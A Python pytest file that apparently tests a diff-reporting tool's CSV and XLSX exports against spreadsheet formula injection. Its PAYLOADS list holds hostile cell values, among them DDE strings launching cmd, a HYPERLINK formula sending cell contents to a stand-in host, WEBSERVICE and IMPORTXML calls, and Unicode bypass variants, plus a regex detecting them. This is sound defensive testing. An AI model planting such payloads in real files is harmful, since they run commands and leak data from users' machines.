"""What strangers wrote, in the cells of a workbook."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from lxml import etree
from openpyxl import load_workbook

from diffreport import read
from diffreport.archived import comparisons as archived_comparisons
from diffreport.comparison import compare
from diffreport.comparison.figures.ledger import ledger
from diffreport.model import Block, Comparison, Document, Edition, Kind, LeftOut, NoiseCount, Status, Table
from diffreport.report import rendered
from diffreport.report.presentation import Presentation
from diffreport.report.presentation import Table as Name
from diffreport.report.review import Judgement, Review, Statement
from tests.report.factory import Draft, figure
from tests.report.tabled import AT, as_double, book_of, csv_of, rows_in

# What a spreadsheet runs, or may take for something to run.
# What a spreadsheet runs, or may take for something to run.
PAYLOADS = (
    '=HYPERLINK("https://away.test/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1",
    "\u200b=1+1", "\ufeff=1+1", "\u2028=1+1", '"=1+1', "'=1+1", '""=1+1', "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    "x;=1+1", 'x; "@SUM(1)', '=IMPORTXML("https://away.test/a","//a")', '=WEBSERVICE("https://away.test/b")',
    "DDE;=DDE(\"cmd\";\"/C calc\";\"x\")", "<r><t>=1+1</t></r></si><si><r></r>", "_x003D_1+1",
)  # fmt: skip


def hostile(payload: str) -> tuple[Comparison, Presentation]:
    """Return a comparison in which everything that others wrote begins with a payload, and how it is shown."""

    def side(boats: str, duty: str, killed: str) -> Document:
        section = (f"{payload} Ports", payload)
        head = (f"{payload} Year", f"{payload} Killed")
        table = Table((head, (f"{payload} A", killed), (f"{payload} {boats}", "3")), 1, f"{payload} {boats}")
        blocks = (
            Block(Kind.PARAGRAPH, f"{payload} The port counted {boats} boats.", section),
            Block(Kind.PARAGRAPH, f"{payload} The master {duty} register them at once.", section),
            Block(Kind.PARAGRAPH, f"{payload} Only the {boats} know of this {killed} passage.", section, 3),
            Block(Kind.TABLE, table.text, section, table=table),
        )
        edition = Edition(*[payload] * 4, source=payload, note=payload, media_type=payload, published=payload)
        return Document(blocks, edition, payload, payload, (payload,), (LeftOut(payload, payload, 3),))

    draft = Draft()
    of_payload = draft.edited(f"[-{payload}-]{{+{payload} 2+}}", payload, (payload,))
    draft.revision(of_payload, Status.REVISED, payload, figure(payload, "3", unit=payload), figure(payload, "4"))
    draft.signal(of_payload, payload, payload, payload)
    drafted = draft.comparison()
    made = compare(side("10", "shall", "41"), side("25", "may", payload))
    found = made.findings[0]
    judgement = Judgement("accepted", payload, AT, (Statement(payload, "accepted", payload, AT),))
    review = Review("x", AT, payload, {found.id: judgement})
    # a label, a tag and a class of noise that no version of ours has
    made = replace(
        made,
        engine=payload,
        settings={**made.settings, payload: payload},
        findings=(replace(found, label=payload, tags=(payload,)), *made.findings[1:]),
        figures=tuple(replace(r, label=payload) for r in made.figures),
        wording=tuple(replace(s, signal=payload, evidence=(payload, payload)) for s in made.wording),
        noise=(NoiseCount(payload, 3),),
        rewrites=drafted.rewrites,
    )
    return made, Presentation(review=review, report="report.html")


_LIVE = re.compile(r"(?:^|;)[\s\"\u200b\ufeff]*[=+\-@＝＋－＠\t\r]")
_NUMBER = re.compile(r"[-+]?\d+(?:\.\d+)?")


def is_live(text: str) -> bool:
    """Tell whether a spreadsheet would take a text for something to run."""
    return bool(_LIVE.search(text)) and not _NUMBER.fullmatch(text)


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_nothing_that_strangers_wrote_runs_in_a_spreadsheet(payload: str) -> None:
    """No cell of any table is a formula or a link of theirs, in either format, and each is there to be read."""
    made, shown = hostile(payload)
    cells = 0
    for table in Name:
        text = rendered(made, "csv", replace(shown, table=table)).decode("utf-8")
        rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
        assert len(rows) == text.count("\r\n")  # no cell holds the end of a line
        assert len({len(row) for row in rows}) == 1
        assert not any(is_live(cell) for row in rows for cell in row)
        cells += sum("1" in cell or "away.test" in cell or "cmd" in cell for row in rows for cell in row)
    assert cells > 40
    content = rendered(made, "xlsx", shown)
    book = load_workbook(io.BytesIO(content))
    every = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.hyperlink.target for cell in every if cell.hyperlink} == {"report.html"}
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        for name in parts.namelist():
            tree = etree.fromstring(parts.read(name))
            assert not tree.findall(".//{*}f") and not tree.findall(".//{*}r/{*}t"), name
    assert all(cell.quotePrefix for cell in every if isinstance(cell.value, str) and is_live(cell.value))


def test_what_xml_cannot_hold_is_written_out_or_replaced() -> None:
    """Controls, halves of characters, no characters: in texts, in titles, in addresses."""
    hidden = "a\x00b\x0b\x1f\ud800\ufffe\uffff\u202ec"
    old, new = (
        Document.from_paragraphs([f"{hidden} counted {n} boats."], label, hidden) for n, label in ((1, "a"), (2, "b"))
    )
    content = rendered(compare(old, new), "xlsx", Presentation(report=f"{hidden}.html"))
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        for name in parts.namelist():
            etree.fromstring(parts.read(name))
    text = rendered(compare(old, new), "csv", Presentation(table="summary")).decode("utf-8")
    assert "a<U+0000>b<U+000B><U+001F><U+D800>" in text and "<U+202E>c" in text


def test_the_name_of_an_edition_is_the_same_in_every_worksheet() -> None:
    """In one line, also of a file whose name has two."""
    old, new = (Document.from_paragraphs([f"The guard counted {n} boats."], f"a\n{n}") for n in (1, 2))
    book = book_of(compare(old, new))
    [figure_row], [finding] = rows_in(book["Figures"]), rows_in(book["Findings"])
    assert (figure_row["old_edition"], figure_row["new_edition"]) == ("a / 1", "a / 2")
    assert finding["old_citation"].startswith("a / 1 ")


def test_a_cell_holds_what_it_can_of_a_very_long_text() -> None:
    """32,767 units of UTF-16, with an ellipsis; CSV has all."""
    long = "word 🚢 " * 6_000
    made = compare(Document.from_paragraphs(["One."], "a"), Document.from_paragraphs(["One.", long], "b"))
    [row] = rows_in(book_of(made)["Findings"])
    assert row["new_words"].endswith("…")
    assert 32_765 <= len(row["new_words"].encode("utf-16-le")) // 2 <= 32_767
    assert csv_of(made, "findings")[0]["new_words"] == long.strip()


@pytest.mark.usefixtures("kept")
def test_a_real_report_is_whole_in_its_workbook(shared_editions: Path) -> None:
    """Its findings, its figures and its signals, each as many as it has; the numbers are those of the ledger."""
    folder = shared_editions / "hrr_html"
    old, new = (read(folder / f"hrr_iceland__{year}.html") for year in (2021, 2022))
    made = archived_comparisons.compared(old, new)
    book = book_of(made, Presentation(report="report.html"))
    told = ledger(made)
    figures = rows_in(book["Figures"])
    assert [row["n"] for row in rows_in(book["Findings"])] == list(range(1, len(made.findings) + 1))
    amounts = [(row, of) for row, of in zip(figures, told, strict=True) if of.kind != "date"]
    assert len(amounts) > 10
    assert all(row["new_value"] == as_double(of.values(of.new)[0]) for row, of in amounts)
    assert [row["delta"] for row in figures] == [as_double(of.delta) for of in told]
    assert len(rows_in(book["Wording"])) == len(made.wording)
    assert not any(cell.data_type == "f" for sheet in book for row in sheet.iter_rows() for cell in row)
    sentences = {row["finding"]: row["sentence"] or "" for row in rows_in(book["Findings"])}
    words = {row["finding"]: row["new_words"] or "" for row in rows_in(book["Findings"])}
    of_words = [f for f in made.findings if f.opcodes and " … " not in words[f.id] and words[f.id]]
    assert len(of_words) > 10
    assert all(words[f.id].split(" / ")[0] in sentences[f.id] for f in of_words)
